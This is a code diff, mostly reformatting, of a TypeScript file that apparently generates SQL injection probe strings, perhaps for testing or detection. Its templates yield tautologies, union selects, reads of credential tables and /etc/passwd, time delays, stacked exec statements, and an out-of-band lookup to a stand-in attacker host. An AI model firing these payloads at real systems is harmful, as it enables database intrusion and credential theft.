@@ -190,23 +190,69 @@ export const probeTemplates = family('sql-injection/probe', {
   'comment-in-number': text`${integer(1, 999)}${oneOf('/**/', '/*!*/', text`/*${alias}*/`, text`/*!${digits(5)}${alias}*/`)}${oneOf(comment, text`${words('or and')}/**/${same(integer(1, 9), (n) => `${n}=${n}`)}`)}`,
   'as-injectjson': sql(injected(text`as ${alias} where ${same(bigNumber, (n) => `${n}=${n}`)}`)),
   'having-sum': sql(injected(text`union select ${words('sum count avg max')}(${column}) from ${table}`)),
-  'bare-condition': sql(text`${maybe(integer(0, 9))}${words('or and || &&')}${oneOf(' ', '', '+')}${oneOf(same(letters('abxyz', 1, 2), (s) => `${s}=${s}`), 'x=y', same(integer(0, 9), (n) => `${n}=${n}`), text`${integer(0, 9)} = ${integer(0, 9)}`, "'a'='a'", '(1=1)')}${maybe(comment, 0.6)}`),
-  'bare-where': sql(text`${maybe('+')}${words('where having and or')} ${same(integer(0, 9), (n) => oneOf(`${n} = ${n}`, `${n}=${n}`, `'${n}'='${n}'`))}${maybe(comment)}`),
-  'not-like': sql(text`${integer(1, 999)}'${oneOf(' ', '+', '/**/')}${maybe('not')}${oneOf(' ', '+', '/**/')}${words('like = between rlike')}${oneOf(' ', '+')}'${integer(1, 999)}`),
-  'bare-catalogue': sql(text`select ${oneOf('*', column, serverFact, 'banner', 'name', 'table_name')} from ${oneOf('information_schema.tables', 'v$version where rownum=1', 'master..sysdatabases', 'sysobjects', 'pg_shadow', 'all_tables', 'sqlite_master', 'mysql.user', 'sys.user$', 'v$instance', 'pg_catalog.pg_user', 'user_objects', 'syscat.tables', 'master..syslogins')}${maybe(comment)}`),
-  'bare-case': sql(text`case when ${oneOf(text`${column}=${hexString}`, tautology)} then ${integer(0, 9)} else ${integer(0, 9)} end${maybe(comment)}`),
+  'bare-condition': sql(
+    text`${maybe(integer(0, 9))}${words('or and || &&')}${oneOf(' ', '', '+')}${oneOf(
+      same(letters('abxyz', 1, 2), (s) => `${s}=${s}`),
+      'x=y',
+      same(integer(0, 9), (n) => `${n}=${n}`),
+      text`${integer(0, 9)} = ${integer(0, 9)}`,
+      "'a'='a'",
+      '(1=1)'
+    )}${maybe(comment, 0.6)}`
+  ),
+  'bare-where': sql(
+    text`${maybe('+')}${words('where having and or')} ${same(integer(0, 9), (n) => oneOf(`${n} = ${n}`, `${n}=${n}`, `'${n}'='${n}'`))}${maybe(comment)}`
+  ),
+  'not-like': sql(
+    text`${integer(1, 999)}'${oneOf(' ', '+', '/**/')}${maybe('not')}${oneOf(' ', '+', '/**/')}${words('like = between rlike')}${oneOf(' ', '+')}'${integer(1, 999)}`
+  ),
+  'bare-catalogue': sql(
+    text`select ${oneOf('*', column, serverFact, 'banner', 'name', 'table_name')} from ${oneOf('information_schema.tables', 'v$version where rownum=1', 'master..sysdatabases', 'sysobjects', 'pg_shadow', 'all_tables', 'sqlite_master', 'mysql.user', 'sys.user$', 'v$instance', 'pg_catalog.pg_user', 'user_objects', 'syscat.tables', 'master..syslogins')}${maybe(comment)}`
+  ),
+  'bare-case': sql(
+    text`case when ${oneOf(text`${column}=${hexString}`, tautology)} then ${integer(0, 9)} else ${integer(0, 9)} end${maybe(comment)}`
+  ),
   'multiplied-comparison': sql(text`(${bigNumber}=${bigNumber})${oneOf('*', ' and ', '+', '-')}${bigNumber}`),
-  'bare-order-by': sql(text`${maybe(' ')}${words('order group')} by ${integer(1, 60)}${maybe(text`${oneOf(',', ' ')}${oneOf(integer(1, 9), 'asc', 'desc')}`, 0.3)}${maybe(' ')}${maybe(comment, 0.5)}`),
-  'bare-settings': sql(text`${maybe(baseValue)}${maybe(oneOf("'", ';', ' union '))}select ${oneOf(text`current_setting('${words('port hba_file config_file data_directory log_statement password_encryption')}')`, text`${serverFact}`, text`versionnumber, version_timestamp from sysibm.sysversions`, text`${serverFact} from dual`, text`distinct(column_name) from all_tab_columns`, text`name from v$database`, text`pg_read_file('${words('postgresql.conf pg_hba.conf /etc/passwd')}')`)}${maybe(';')}${maybe(comment)}`),
-  'declared-script': sql(text`${maybe(oneOf(';', "';", '1;'))}declare @${alias} ${words('varchar nvarchar char')}${maybe(' ')}(${words('4000 8000 255')}) ${words('select set')} @${alias}${maybe(' ')}=${maybe(' ')}${oneOf(text`0x${hex(12, 60)}`, quoteless, '')}${maybe(text`${oneOf(' ', ';')}exec${maybe(' ')}(@${alias})`)}`),
-  'executed-variable': sql(text`${maybe(oneOf(';', "';", ')'))}${words('exec execute print select')}${maybe(' ')}${oneOf(text`(@${alias})`, text`@@${lowerWord}`, text`@${alias}`, text`sp_executesql @${alias}`)}${maybe(comment)}`),
-  'quotes-with-operator': sql(text`${oneOf('', ' ', lowerWord)}${same(oneOf('"', "'"), (quote) => text`${quote} or ${quote}${quote}${oneOf('*', '^', '&', '-', ' ', '+', '|', '/')}${quote}`)}`),
-  'placeholder-delay': sql(injected(oneOf('sleep(__time__)', 'benchmark(10000000,md5(1))', 'pg_sleep(__time__)', "waitfor delay '0:0:__time__'", text`or sleep(__time__)='`, text`sleep(${oneOf('@@time', '[delay]', '{time}')})`))),
-  'error-in-condition': sql(text`${maybe(baseValue)}${maybe(oneOf(',', "'", '(', ' or ', ' and '))}${oneOf(text`iif(${bigNumber}=${bigNumber},1,1/0)`, text`elt(${same(bigNumber, (n) => `${n}=${n}`)},${bigNumber})`, 'isnull(1/0)', text`if(${bigNumber}=${bigNumber},1,(select 1 union select 2))`, text`make_set(${bigNumber}=${bigNumber},${bigNumber})`, text`len(@@servername)>${integer(0, 9)}`, text`${column}=0x${hex(8, 24)}`)}${maybe(comment, 0.3)}`),
-  'split-in-email': sql(text`${lowerWord}@${lowerWord}'or'${same(text`${lowerWord}.${words('com nl org')}`, (host) => `${host}'='${host}`)}`),
-  'national-text': sql(text`${maybe(lowerWord)}${oneOf("'", '', ' ')} or '${same(lowerWord, (word) => text`${word}' ${oneOf("= n'", "like '", "= 'te'+'", '<> n\'')}${word}`)}${oneOf("'", "%'", '')}`),
+  'bare-order-by': sql(
+    text`${maybe(' ')}${words('order group')} by ${integer(1, 60)}${maybe(text`${oneOf(',', ' ')}${oneOf(integer(1, 9), 'asc', 'desc')}`, 0.3)}${maybe(' ')}${maybe(comment, 0.5)}`
+  ),
+  'bare-settings': sql(
+    text`${maybe(baseValue)}${maybe(oneOf("'", ';', ' union '))}select ${oneOf(text`current_setting('${words('port hba_file config_file data_directory log_statement password_encryption')}')`, text`${serverFact}`, text`versionnumber, version_timestamp from sysibm.sysversions`, text`${serverFact} from dual`, text`distinct(column_name) from all_tab_columns`, text`name from v$database`, text`pg_read_file('${words('postgresql.conf pg_hba.conf /etc/passwd')}')`)}${maybe(';')}${maybe(comment)}`
+  ),
+  'declared-script': sql(
+    text`${maybe(oneOf(';', "';", '1;'))}declare @${alias} ${words('varchar nvarchar char')}${maybe(' ')}(${words('4000 8000 255')}) ${words('select set')} @${alias}${maybe(' ')}=${maybe(' ')}${oneOf(text`0x${hex(12, 60)}`, quoteless, '')}${maybe(text`${oneOf(' ', ';')}exec${maybe(' ')}(@${alias})`)}`
+  ),
+  'executed-variable': sql(
+    text`${maybe(oneOf(';', "';", ')'))}${words('exec execute print select')}${maybe(' ')}${oneOf(text`(@${alias})`, text`@@${lowerWord}`, text`@${alias}`, text`sp_executesql @${alias}`)}${maybe(comment)}`
+  ),
+  'quotes-with-operator': sql(
+    text`${oneOf('', ' ', lowerWord)}${same(oneOf('"', "'"), (quote) => text`${quote} or ${quote}${quote}${oneOf('*', '^', '&', '-', ' ', '+', '|', '/')}${quote}`)}`
+  ),
+  'placeholder-delay': sql(
+    injected(
+      oneOf(
+        'sleep(__time__)',
+        'benchmark(10000000,md5(1))',
+        'pg_sleep(__time__)',
+        "waitfor delay '0:0:__time__'",
+        text`or sleep(__time__)='`,
+        text`sleep(${oneOf('@@time', '[delay]', '{time}')})`
+      )
+    )
+  ),
+  'error-in-condition': sql(
+    text`${maybe(baseValue)}${maybe(oneOf(',', "'", '(', ' or ', ' and '))}${oneOf(text`iif(${bigNumber}=${bigNumber},1,1/0)`, text`elt(${same(bigNumber, (n) => `${n}=${n}`)},${bigNumber})`, 'isnull(1/0)', text`if(${bigNumber}=${bigNumber},1,(select 1 union select 2))`, text`make_set(${bigNumber}=${bigNumber},${bigNumber})`, text`len(@@servername)>${integer(0, 9)}`, text`${column}=0x${hex(8, 24)}`)}${maybe(comment, 0.3)}`
+  ),
+  'split-in-email': sql(
+    text`${lowerWord}@${lowerWord}'or'${same(text`${lowerWord}.${words('com nl org')}`, (host) => `${host}'='${host}`)}`
+  ),
+  'national-text': sql(
+    text`${maybe(lowerWord)}${oneOf("'", '', ' ')} or '${same(lowerWord, (word) => text`${word}' ${oneOf("= n'", "like '", "= 'te'+'", "<> n'")}${word}`)}${oneOf("'", "%'", '')}`
+  ),
   'plus-for-blanks': sql(altered(injected(text`${union} ${counted}`), (written) => written.replaceAll(' ', '+'))),
-  'plus-for-blanks-condition': sql(altered(injected(text`${words('or and')} ${tautology}`), (written) => written.replaceAll(' ', '+'))),
+  'plus-for-blanks-condition': sql(
+    altered(injected(text`${words('or and')} ${tautology}`), (written) => written.replaceAll(' ', '+'))
+  ),
   'host-lookup': sql(
     text`${baseValue}'${oneOf('||', '+', ' ')}(select ${words('load_file utl_inaddr.get_host_address utl_http.request')}(${oneOf(text`'${attackerHost}'`, quoteless)}))${oneOf(`||'`, `+'`, comment)}`
   )
